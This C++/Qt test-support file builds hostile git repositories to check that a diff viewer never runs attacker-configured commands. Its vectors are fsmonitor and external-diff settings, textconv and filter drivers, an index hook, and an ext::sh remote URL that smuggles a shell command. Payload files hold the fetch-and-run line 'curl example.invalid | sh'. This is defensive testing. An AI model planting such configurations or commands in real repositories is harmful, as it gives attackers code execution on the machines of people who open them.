#include "HostileRepos.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>

#include <stdexcept>

#include <sys/stat.h>
#include <utime.h>

namespace {

const QString kPayload = QStringLiteral("payload.txt");

QString attributesFor(HostileKind kind)
{
    switch (kind) {
    case HostileKind::Textconv:
        return QStringLiteral("*.txt diff=evil\n");
    case HostileKind::CleanFilter:
    case HostileKind::ProcessFilter:
        return QStringLiteral("*.txt filter=evil\n");
    case HostileKind::EolFilter:
        return QStringLiteral("*.txt text eol=crlf filter=evil\n");
    default:
        return {};
    }
}

void writeBase(TestRepo& repo, HostileKind kind)
{
    repo.init();
    if (const QString attributes = attributesFor(kind); !attributes.isEmpty())
        repo.write(QStringLiteral(".gitattributes"), attributes.toUtf8());
    repo.write(kPayload, "echo safe\n");
    repo.write(QStringLiteral("other.txt"), "unrelated\n");
}

void check(const GitOutput& r, const char* what)
{
    if (r.exitCode != 0)
        throw std::runtime_error(std::string(what) + ": " + r.err.toStdString());
}

void configure(TestRepo& repo, HostileKind kind, const QString& marker)
{
    auto config = [&](const QString& key, const QString& value) {
        check(repo.git({QStringLiteral("config"), key, value}), "git config");
    };
    // Scripts live inside .git, where they are never committed, like an attacker's would in a
    // repository unpacked from an archive.
    auto script = [&](const QString& name, const QString& rest) {
        return repo.writeMarkerScript(QStringLiteral(".git/evil/") + name, marker, rest);
    };
    switch (kind) {
    case HostileKind::Fsmonitor:
        config(QStringLiteral("core.fsmonitor"),
               script(QStringLiteral("fsmonitor"), QStringLiteral("exit 1")));
        break;
    case HostileKind::ExternalDiff:
        config(QStringLiteral("diff.external"), script(QStringLiteral("extdiff"), QStringLiteral("exit 0")));
        break;
    case HostileKind::Textconv:
        config(QStringLiteral("diff.evil.textconv"),
               script(QStringLiteral("textconv"), QStringLiteral("cat \"$1\"")));
        break;
    case HostileKind::CleanFilter:
    case HostileKind::EolFilter:
        config(QStringLiteral("filter.evil.clean"), script(QStringLiteral("clean"), QStringLiteral("cat")));
        break;
    case HostileKind::ProcessFilter:
        config(QStringLiteral("filter.evil.process"),
               script(QStringLiteral("process"), QStringLiteral("exit 1")));
        break;
    case HostileKind::IndexHook:
        script(QStringLiteral("unused"), QString());
        repo.writeMarkerScript(QStringLiteral(".git/hooks/post-index-change"), marker, QString());
        break;
    case HostileKind::PromisorFetch:
        break;
    }
}

// Moves the modification time back so that a later touch is a real stat change.
void backdate(const QString& path)
{
    struct utimbuf times
    {
    };
    times.actime = times.modtime = 1000000000;
    ::utime(QFile::encodeName(path).constData(), &times);
}

} // namespace

const std::vector<HostileCase>& hostileCases()
{
    static const std::vector<HostileCase> cases = {
        {"fsmonitor hook", HostileKind::Fsmonitor},
        {"external diff tool", HostileKind::ExternalDiff},
        {"textconv driver", HostileKind::Textconv},
        {"clean filter", HostileKind::CleanFilter},
        {"long-running filter process", HostileKind::ProcessFilter},
        {"clean filter beside eol attributes", HostileKind::EolFilter},
        {"post-index-change hook", HostileKind::IndexHook},
        {"promisor fetch of a missing blob", HostileKind::PromisorFetch},
    };
    return cases;
}

HostileSetup::HostileSetup() = default;
HostileSetup::~HostileSetup() = default;
HostileSetup::HostileSetup(HostileSetup&&) noexcept = default;
HostileSetup& HostileSetup::operator=(HostileSetup&&) noexcept = default;

bool HostileSetup::markerExists() const
{
    return QFileInfo::exists(marker);
}

void HostileSetup::clearMarker() const
{
    QFile::remove(marker);
}

QByteArray HostileSetup::plainDiffInHostile() const
{
    const QFileInfo info(file);
    return runTestGit(info.path(),
                      {QStringLiteral("diff"), QStringLiteral("HEAD"), QStringLiteral("--"), info.fileName()})
        .out;
}

QByteArray HostileSetup::expectedDiff() const
{
    return twin ? twin->plainDiff(kPayload) : QByteArray();
}

HostileSetup makeHostileRepo(HostileKind kind)
{
    HostileSetup setup;
    setup.markers = std::make_unique<QTemporaryDir>();
    setup.marker = setup.markers->path() + QStringLiteral("/ran");
    setup.repo = std::make_unique<TestRepo>();
    TestRepo& repo = *setup.repo;

    if (kind == HostileKind::PromisorFetch) {
        // A server with the blob, and a blobless clone that only knows its name.
        TestRepo server;
        writeBase(server, kind);
        server.commitAll();
        check(server.git({QStringLiteral("config"), QStringLiteral("uploadpack.allowFilter"),
                          QStringLiteral("true")}),
              "config");
        const QString clone = repo.path(QStringLiteral("clone"));
        check(runTestGit(repo.root(),
                         {QStringLiteral("clone"), QStringLiteral("-q"), QStringLiteral("--filter=blob:none"),
                          QStringLiteral("--no-checkout"), QStringLiteral("file://") + server.root(), clone}),
              "clone");
        check(runTestGit(clone, {QStringLiteral("read-tree"), QStringLiteral("HEAD")}), "read-tree");
        check(runTestGit(clone, {QStringLiteral("config"), QStringLiteral("protocol.ext.allow"),
                                 QStringLiteral("always")}),
              "config");
        check(runTestGit(clone, {QStringLiteral("config"), QStringLiteral("remote.origin.url"),
                                 QStringLiteral("ext::sh -c echo% ran% >>%1").arg(setup.marker)}),
              "config");
        setup.file = clone + QLatin1Char('/') + kPayload;
        QFile out(setup.file);
        if (!out.open(QIODevice::WriteOnly) || out.write("echo pwned\n") < 0)
            throw std::runtime_error("cannot write payload");
        return setup;
    }

    writeBase(repo, kind);
    repo.commitAll();
    configure(repo, kind, setup.marker);
    setup.twin = std::make_unique<TestRepo>();
    writeBase(*setup.twin, kind);
    setup.twin->commitAll();

    setup.file = repo.path(kPayload);
    if (kind == HostileKind::IndexHook) {
        // Same content, newer time: a refresh rewrites the index, which fires the hook.
        backdate(setup.file);
        check(repo.git({QStringLiteral("update-index"), QStringLiteral("--refresh")}), "refresh");
        ::utime(QFile::encodeName(setup.file).constData(), nullptr);
        return setup;
    }
    // The eol case's file has CRLF line ends, which the twin's plain diff drops as the viewer must.
    const QByteArray modified = kind == HostileKind::EolFilter ? "echo pwned\r\ncurl example.invalid | sh\r\n"
                                                               : "echo pwned\ncurl example.invalid | sh\n";
    repo.write(kPayload, modified);
    setup.twin->write(kPayload, modified);
    return setup;
}
